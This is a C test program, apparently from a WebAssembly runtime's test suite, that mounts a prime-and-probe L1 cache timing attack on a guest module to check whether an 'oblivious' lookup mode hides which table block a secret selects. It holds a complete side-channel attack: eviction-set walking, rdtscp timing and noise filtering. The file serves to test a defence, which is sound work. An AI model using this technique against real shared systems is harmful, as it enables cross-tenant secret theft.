/* tests/prime_probe/attack.c - prime and probe on the first data cache, between two tenants that
 * take turns on one processor: the attacker fills each set, the victim looks one block of a table
 * up by its secret, the attacker times each set.  SPDX-License-Identifier: Apache-2.0
 *
 *     attack VICTIM.wasm plain|oblivious      x86-64
 *
 * The victim is a guest in a partition and store of its own; the attacker is native code with the
 * cycle counter, so stronger than a guest. Prints, for each secret of 64, the time of each set less
 * the mean of that set over all secrets, then "guessed N of 64": how often the set whose time
 * rose most is the one where the secret's block lies.
 */
#define _GNU_SOURCE
#include "wrt/oblivious_host.h"
#include "wrt/wrt.h"

#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <x86intrin.h>

enum { SETS = 64, LINE = 64, MOST_WAYS = 32, SECRETS = 64, ROUNDS = 3000, KEEP = 40 };

static _Alignas(4096) uint8_t lines[MOST_WAYS][SETS * LINE];
static double times[SECRETS][SETS];
static uint8_t orders[ROUNDS][SETS];

static void must(enum wrt_status status, const char *what)
{
    if (status != WRT_OK) {
        fprintf(stderr, "attack: %s: %s\n", what, wrt_status_name(status));
        exit(2);
    }
}

/* All lines of a set, each found by the one before: the loads come one after the other. */
static void link_lines(size_t ways)
{
    for (size_t set = 0; set < SETS; set++) {
        for (size_t way = 0; way < ways; way++) {
            uint8_t *next = &lines[(way + 1) % ways][set * LINE];
            memcpy(&lines[way][set * LINE], &next, sizeof next);
        }
    }
}

static inline uint8_t *walk(uint8_t *from, size_t steps)
{
    while (steps-- > 0)
        memcpy(&from, from, sizeof from);
    return from;
}

static void prime(size_t ways)
{
    for (size_t set = 0; set < SETS; set++) {
        uint8_t *end = walk(&lines[0][set * LINE], ways);
        __asm__ volatile("" : : "r"(end) : "memory");
    }
}

static uint32_t probe(size_t set, size_t ways)
{
    uint32_t aux;
    _mm_lfence();
    const uint64_t from = __rdtscp(&aux);
    _mm_lfence();
    uint8_t *end = walk(&lines[0][set * LINE], ways);
    __asm__ volatile("" : : "r"(end) : "memory");
    _mm_lfence();
    return (uint32_t)(__rdtscp(&aux) - from);
}

static void shuffle(uint8_t *order)
{
    for (unsigned i = 0; i < SETS; i++)
        order[i] = (uint8_t)i;
    for (unsigned i = SETS - 1; i > 0; i--) {
        const unsigned j = (unsigned)rand() % (i + 1);
        const uint8_t kept = order[i];
        order[i] = order[j];
        order[j] = kept;
    }
}

static int by_size(const void *a, const void *b)
{
    const uint32_t x = *(const uint32_t *)a, y = *(const uint32_t *)b;
    return (x > y) - (x < y);
}

/* The mean of the quickest KEEP in a hundred: the others were disturbed. */
static double settle(uint32_t *all)
{
    double sum = 0;
    qsort(all, ROUNDS, sizeof *all, by_size);
    for (int i = 0; i < ROUNDS * KEEP / 100; i++)
        sum += all[i];
    return sum / (ROUNDS * KEEP / 100);
}

static void spy(struct wrt_store *store, struct wrt_function *victim, uint32_t secret, size_t ways)
{
    static uint32_t all[SETS][ROUNDS];
    const struct wrt_value argument = {.type = WRT_I32, .of.i32 = secret};
    struct wrt_value result = {.type = WRT_I32};

    for (int round = 0; round < ROUNDS; round++) {
            /* Eight sets for each call: what is probed later was disturbed by what came before. */
        for (int group = 0; group < SETS; group += 8) {
            prime(ways);
            must(wrt_function_call(store, victim, &argument, 1, &result, 1), "call");
            for (int i = group; i < group + 8; i++)
                all[orders[round][i]][round] = probe(orders[round][i], ways);
        }
    }
    for (int set = 0; set < SETS; set++)
        times[secret][set] = settle(all[set]);
}

static uint8_t *read_file(const char *path, size_t *size)
{
    static uint8_t bytes[1 << 16];
    FILE *in = fopen(path, "rb");
    if (in == NULL)
        exit(2);
    *size = fread(bytes, 1, sizeof bytes, in);
    fclose(in);
    return bytes;
}

static void stay_on_one_processor(void)
{
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET((unsigned)sched_getcpu(), &set);
    (void)sched_setaffinity(0, sizeof set, &set);
}

static unsigned report(unsigned first_set)
{
    unsigned guessed = 0;

    for (int set = 0; set < SETS; set++) { /* what all secrets have in common says nothing */
        double mean = 0;
        for (int secret = 0; secret < SECRETS; secret++)
            mean += times[secret][set] / SECRETS;
        for (int secret = 0; secret < SECRETS; secret++)
            times[secret][set] -= mean;
    }
    for (unsigned secret = 0; secret < SECRETS; secret++) {
        unsigned best = 0;
        for (unsigned set = 0; set < SETS; set++) {
            printf("%s%.1f", set > 0 ? " " : "", times[secret][set]);
            if (times[secret][set] > times[secret][best])
                best = set;
        }
        putchar('\n');
        guessed += best == (first_set + secret) % SETS;
    }
    return guessed;
}

int main(int count, char **arguments)
{
    struct wrt_partition *partition;
    struct wrt_store *store;
    struct wrt_module *module;
    struct wrt_instance *instance;
    struct wrt_oblivious_host *host;
    struct wrt_extern item;
    size_t size;
    const long assoc = sysconf(_SC_LEVEL1_DCACHE_ASSOC);
    const size_t ways = assoc > 0 && assoc <= MOST_WAYS ? (size_t)assoc : 8;

    if (count != 3)
        return 2;
    uint8_t *bytes = read_file(arguments[1], &size);
    stay_on_one_processor();
    must(wrt_partition_create(NULL, NULL, &partition, NULL), "partition");
    must(wrt_store_create(partition, NULL, &store, NULL), "store");
    must(wrt_oblivious_host_create(partition, &host, NULL), "host");
    must(wrt_oblivious_host_define(store, host, NULL), "define");
    must(wrt_module_load(partition, NULL, bytes, size, &module, NULL), "load");
    must(wrt_store_instantiate(store, module, &instance, NULL), "instantiate");
    must(wrt_instance_export(instance, "create", &item), "create");
    must(wrt_function_call(store, item.of.function, NULL, 0, NULL, 0), "create");
    must(wrt_instance_export(instance, arguments[2], &item), arguments[2]);
    link_lines(ways);
    for (int round = 0; round < ROUNDS; round++)
        shuffle(orders[round]);
    for (uint32_t secret = 0; secret < SECRETS; secret++)
        spy(store, item.of.function, secret, ways);
    /* The table starts at a page of the guest's memory, so block 0 lies in set 0. */
    printf("guessed %u of %d\n", report(0), SECRETS);
    return 0;
}
